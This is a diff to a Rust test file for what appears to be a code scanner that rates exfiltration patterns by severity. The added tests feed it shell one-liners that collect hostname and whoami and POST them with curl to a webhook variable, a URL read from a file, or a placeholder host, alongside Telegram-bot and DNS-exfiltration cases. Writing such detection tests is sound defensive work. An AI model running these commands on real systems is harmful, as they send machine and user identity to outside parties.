@@ -573,6 +573,11 @@ fn a_mailbox_of_the_user_s_own_and_names_that_others_know() {
     };
     assert_eq!(told("os.environ['WEBHOOK']"), Some(Severity::Medium));
     assert_eq!(told("f'https://api.telegram.org/bot{os.environ[\"T\"]}/sendMessage'"), Some(Severity::Medium));
+    let shell =
+        |code: &str| weight(Language::Shell, &format!("M=\"$(hostname) $(whoami)\"\n{code}"), "flow-identity-sent");
+    assert_eq!(shell("curl -X POST \"$HOOK_URL\" -d \"$M\""), Some(Severity::Medium));
+    assert!(shell("U=$(cat /tmp/x)\ncurl -X POST \"$U\" -d \"$M\"") >= Some(Severity::High));
+    assert!(shell("curl -X POST \"https://h.invalid/$X\" -d \"$M\"") >= Some(Severity::High));
     assert!(told("'https://api.telegram.org/bot1:A/sendMessage'") >= Some(Severity::High));
     assert!(told("'https://h.invalid/x'") >= Some(Severity::High));
     let looked = |code: &str| weight(Language::Python, code, "flow-dns-exfiltration");
